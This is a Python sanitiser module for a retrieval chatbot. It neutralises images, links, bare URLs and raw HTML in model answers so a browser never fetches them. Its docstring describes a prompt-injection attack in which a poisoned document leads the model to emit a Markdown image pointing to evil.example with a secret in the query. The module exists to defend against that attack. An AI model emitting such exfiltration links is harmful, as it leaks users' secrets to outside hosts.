"""Make untrusted text safe to render as Markdown in the browser.

Answers come from a model that reads retrieved documents, and a prompt-injected document can
make it write ``![x](https://evil.example/?q=<secret>)``: rendered, the browser would fetch
that URL and hand the secret to another host. Before model output reaches the Chatbot,
`safe_answer_markdown` turns every image into plain text, every link, autolink, bare URL and
reference definition into its text plus the target as inline code (shown, never fetched and
not clickable: answers cite [n] sources, they have no business linking anywhere), and raw
HTML tags into text. Code spans and fenced code blocks are left as they are: nothing inside
them is rendered.

Document titles, snippets and messages shown in Markdown panels are not meant to contain
Markdown at all: `escape_markdown` escapes both Markdown and HTML.
"""

from __future__ import annotations

import html
import re

# Fenced code blocks (to the closing fence or the end) and inline code spans.
_CODE = re.compile(
    r"(?ms)^[ ]{0,3}(?P<fence>`{3,}|~{3,})[^\n]*\n.*?(?:^[ ]{0,3}(?P=fence)[ \t]*$|\Z)"
    r"|(?P<ticks>`+)(?!`).+?(?<!`)(?P=ticks)(?!`)"
)
_TEXT = r"(?:[^\[\]\n]|\[[^\[\]\n]*\])*"  # text in brackets (one level of nesting)
# ... and over line breaks, but not over a blank line (a paragraph break ends a link's text)
_TEXT_LINES = r"(?:[^\[\]\n]|\n(?![ \t]*\n)|\[[^\[\]\n]*\])*"
_UNSAFE = re.compile(
    rf"(?P<img>!\[(?P<ialt>{_TEXT})\]\([^)\n]*\)?)"  # ![alt](url), also still unfinished
    rf"|(?P<imgref>!\[(?P<ralt>{_TEXT})\]\[[^\]\n]*\])"  # ![alt][ref]
    r"|(?P<bang>!(?=\[))"  # any other `![`: never an image
    # [text](url), its text and target also over a line break (Markdown allows both)
    rf"|(?P<link>\[(?P<ltext>{_TEXT_LINES})\]\((?P<lurl>[ \t]*\n?[^)\n]*)\))"
    r"|(?P<refdef>^[ ]{0,3}\[(?P<dref>[^\]\n]+)\]:[ \t]*(?P<durl>[^\s]*)[^\n]*)"  # [r]: url
    r"|(?P<auto><(?P<aurl>(?:[A-Za-z][A-Za-z0-9+.-]{1,31}:|www\.)[^\s<>]*)>)"  # <url>
    r"|(?P<tag><(?=[A-Za-z/!?]))"  # raw HTML
    r"|(?P<url>(?<![\w/])(?:[A-Za-z][A-Za-z0-9+.-]{1,31}://|www\.)[^\s<>()\[\]`]*)",  # bare
    re.MULTILINE,
)
_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~:=])")


def _code(text: str) -> str:
    text = text.replace("`", "")
    return f"`{text}`" if text else ""


def _neutralise(match: re.Match[str]) -> str:
    kind = match.lastgroup
    if kind == "img":
        return f"\\[image removed: {escape_markdown(match['ialt'])}\\]"
    if kind == "imgref":
        return f"\\[image removed: {escape_markdown(match['ralt'])}\\]"
    if kind == "bang":
        return "\\!"
    if kind == "link":
        text = " ".join(match["ltext"].split())
        return f"{escape_markdown(text)} ({_code(match['lurl'].strip())})"
    if kind == "refdef":
        return f"\\[{escape_markdown(match['dref'])}\\]: {_code(match['durl'])}"
    if kind == "auto":
        return _code(match["aurl"])
    if kind == "tag":
        return "&lt;"
    return _code(match[0])  # a bare URL


def safe_answer_markdown(text: str) -> str:
    """Model output with no images, no links and no raw HTML."""
    if not text:
        return text
    out: list[str] = []
    pos = 0
    for code in _CODE.finditer(text):
        out.append(_UNSAFE.sub(_neutralise, text[pos : code.start()]))
        out.append(code[0])
        pos = code.end()
    out.append(_UNSAFE.sub(_neutralise, text[pos:]))
    return "".join(out)


def escape_markdown(text: str) -> str:
    """Plain text for a Markdown panel: no Markdown, no HTML, no autolinks."""
    return html.escape(_MD_SPECIAL.sub(r"\\\1", text))
